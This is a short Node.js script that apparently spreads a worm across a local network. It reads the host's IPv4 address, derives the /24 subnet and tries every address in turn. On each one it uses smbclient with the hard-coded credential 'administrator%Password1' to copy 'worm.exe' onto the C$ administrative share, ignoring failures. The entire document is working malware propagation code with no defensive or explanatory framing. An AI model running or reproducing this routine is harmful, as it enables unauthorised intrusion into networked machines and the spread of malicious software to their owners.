const os = require('os');
const { execSync } = require('child_process');
const iface = Object.values(os.networkInterfaces()).flat().find(i => i.family === 'IPv4' && !i.internal);
const base = iface.address.split('.').slice(0, 3).join('.');
for (let i = 1; i < 255; i++) {
  try { execSync(`smbclient //${base}.${i}/C$ -U administrator%Password1 -c "put worm.exe"`); } catch {}
}
